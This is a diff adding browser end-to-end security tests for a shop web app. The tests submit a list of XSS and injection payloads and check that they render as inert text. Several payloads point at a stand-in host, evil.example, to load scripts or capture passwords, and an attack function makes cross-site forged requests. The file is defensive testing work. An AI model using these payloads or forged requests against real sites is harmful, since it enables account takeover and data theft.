@@ -1,0 +1,192 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { calls } from '../src/contract/calls.ts'
+import { m } from '../src/words/compiled/messages.js'
+import { expect, open, owner, test } from './story.ts'
+
+/** What runs, leads away or draws over where somebody forgets to write text as text. */
+const payloads = [
+  '<script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '"><script src=//evil.example/x.js></script>',
+  '<img src=x onerror=alert(1)>',
+  '"><img src=x onerror=alert(1)>',
+  "' onmouseover='alert(1)' x='",
+  '" autofocus onfocus=alert(1) x="',
+  '</textarea><svg onload=alert(1)>',
+  '</title><script>alert(1)</script>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<iframe src=javascript:alert(1)>',
+  '<a href="javascript:alert(1)">here</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">here</a>',
+  'javascript:alert(1)//',
+  '<object data=javascript:alert(1)>',
+  '<embed src=javascript:alert(1)>',
+  '<form action=//evil.example><input name=password><button>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href=//evil.example/>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<style>*{display:none}</style>',
+  '<div style="position:fixed;inset:0;background:red">',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<!--><script>alert(1)</script-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '{{constructor.constructor("alert(1)")()}}',
+  '<%= 7*7 %>#{7*7}',
+  '`-alert(1)-$(alert(1))`',
+  "';alert(1)//",
+  '\\";alert(1)//',
+  '"__proto__":{"x":1}',
+  '﹤script﹥alert(1)﹤/script﹥',
+  '＜script＞alert(1)＜/script＞',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+]
+
+test('what visitors and programs write is text in the owner’s inbox and on her page, whatever it looks like', async ({
+  page,
+  emptyShop,
+}) => {
+  const dialogs: string[] = []
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message())
+    void dialog.dismiss()
+  })
+  const strays: string[] = []
+  page.on('request', (request) => {
+    if (new URL(request.url()).hostname !== 'localhost' && !/^(data|blob):/.test(request.url()))
+      strays.push(request.url())
+  })
+  const at = (path: string) => `${emptyShop.origin}${path}`
+  const write = (text: string) => {
+    const data = { name: text.slice(0, 120), email: 'someone@example.com', message: text }
+    return page.request.post(at(calls.sendContactMessage.path), { data })
+  }
+  expect(new Set((await Promise.all(payloads.map(write))).map((answer) => answer.status()))).toEqual(new Set([200]))
+  await page.request.post(at(calls.signInWithPassword.path), { data: owner })
+  const seen = { names: [] as string[], texts: [] as string[] }
+  for (const folder of ['inbox', 'spam'])
+    for (let next: string | null = `/admin?folder=${folder}`; next; ) {
+      await open(page, at(next))
+      const list = page.locator('#messages')
+      await list.evaluate((one) => {
+        for (const details of one.querySelectorAll('details')) details.open = true
+      })
+      seen.names.push(...(await list.locator('summary bdi').allTextContents()))
+      seen.texts.push(...(await list.locator('.message-text').allTextContents()))
+      const older = list.getByRole('link', { name: m.inbox_older() })
+      next = (await older.count()) ? await older.getAttribute('href') : null
+    }
+  expect(seen.texts.sort()).toEqual([...payloads].sort())
+  for (const text of payloads) expect(seen.names).toContain(text.slice(0, 120))
+
+  const story = payloads.join(' ').slice(0, 1500)
+  const address = payloads.join(' ').slice(-500)
+  const change = { address, businessHours: { monFri: payloads[0], sat: payloads[1], sun: payloads[2] } }
+  expect((await page.request.patch(at(calls.changeContactInfo.path), { data: change })).status()).toBe(200)
+  expect((await page.request.patch(at(calls.changeShopTexts.path), { data: { story } })).status()).toBe(200)
+  await open(page, at('/'))
+  await expect(page.locator('#about')).toContainText(story.trim())
+  await expect(page.locator('#contact')).toContainText(address.trim())
+  expect(dialogs).toEqual([])
+  expect(strays).toEqual([])
+})
+
+test('a page of another site can do nothing in the name of the owner whose browser opens it', async ({
+  page,
+  context,
+  emptyShop,
+}) => {
+  const at = (path: string) => `${emptyShop.origin}${path}`
+  await page.request.post(at(calls.signInWithPassword.path), { data: owner })
+  const everything = async () => {
+    const [messages, info, texts, safety] = await Promise.all(
+      [calls.listContactMessages, calls.getContactInfo, calls.getShopTexts, calls.getSafety].map(async ({ path }) =>
+        (await page.request.get(at(path))).json(),
+      ),
+    )
+    return { messages, info, texts, devices: safety.devices.length }
+  }
+  const before = await everything()
+
+  const served = createServer((_, reply) => reply.setHeader('Content-Type', 'text/html').end('<h1>elsewhere</h1>'))
+  await new Promise<void>((resolve) => served.listen(0, '127.0.0.1', resolve))
+  const { port } = served.address() as AddressInfo
+  // A window of its own, in which the browser complains of all that it holds up.
+  const thiefs = await context.newPage()
+  // Another name, and the same name at another port, which cookies take for the same site.
+  for (const elsewhere of [`http://127.0.0.1:${port}`, `http://localhost:${port}`]) {
+    await thiefs.goto(elsewhere)
+    const statuses = await thiefs.evaluate(attack, { shop: emptyShop.origin, owner })
+    expect(statuses.length).toBeGreaterThan(50)
+    // Some of it has not even been sent; of the rest the other page learns nothing.
+    expect(new Set(statuses)).toEqual(new Set(['failed', 'posted']))
+    expect((await page.request.post(at(calls.lookup.path), { data: {} })).status()).toBe(200)
+  }
+  served.close()
+  await thiefs.close()
+  expect(await everything()).toEqual(before)
+  // Premise: the owner's own session would have been let do it.
+  const change = { address: 'A' }
+  expect((await page.request.patch(at(calls.changeContactInfo.path), { data: change })).status()).toBe(200)
+})
+
+/** Runs in the page of the other site. */
+async function attack({ shop, owner }: { shop: string; owner: object }): Promise<string[]> {
+  const message = { name: 'Evil', email: 'evil@example.com', message: 'from elsewhere' }
+  const asked: [method: string, path: string, body: object][] = [
+    ['POST', '/v1/contactMessages', message],
+    ['POST', '/v1/accounts:signOut', {}],
+    ['POST', '/v1/accounts:signInWithPassword', owner],
+    ['POST', '/v1/accounts:signUp', { email: 'evil@example.com', password: 'secret1' }],
+    ['PATCH', '/v1/contactInfo/details', { address: 'Evil' }],
+    ['PATCH', '/v1/shopTexts', { story: 'Evil' }],
+    ['DELETE', '/v1/devices', {}],
+    ['POST', '/v1/images/evil.jpg', {}],
+  ]
+  const outcomes: string[] = []
+  for (const [method, path, body] of asked)
+    for (const mode of ['no-cors', 'cors'] as const)
+      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json']) {
+        const sent = type.includes('form') ? new URLSearchParams(body as Record<string, string>) : JSON.stringify(body)
+        const init = { method, mode, credentials: 'include', headers: { 'content-type': type }, body: sent } as const
+        await fetch(shop + path, init).then(
+          (answer) => outcomes.push(answer.type),
+          () => outcomes.push('failed'),
+        )
+      }
+  for (const [method, path, body] of asked.slice(0, 4))
+    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
+      const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { name: 'nowhere' }))
+      const form = document.body.appendChild(document.createElement('form'))
+      Object.assign(form, { method: 'post', action: `${shop}${path}?_method=${method}`, enctype, target: 'nowhere' })
+      for (const [name, value] of Object.entries(body))
+        form.append(Object.assign(document.createElement('input'), { name, value: String(value) }))
+      const loaded = new Promise((resolve) => {
+        frame.addEventListener('load', resolve)
+        setTimeout(resolve, 1_000)
+      })
+      form.submit()
+      await loaded
+      outcomes.push('posted')
+      frame.remove()
+      form.remove()
+    }
+  for (const tag of ['img', 'script'] as const)
+    for (const path of ['/v1/accounts:signOut', '/login', '/admin'])
+      await new Promise((resolve) => {
+        const one = Object.assign(document.createElement(tag), { src: shop + path, onload: resolve, onerror: resolve })
+        document.body.append(one)
+        setTimeout(resolve, 1_000)
+      })
+  return outcomes
+}
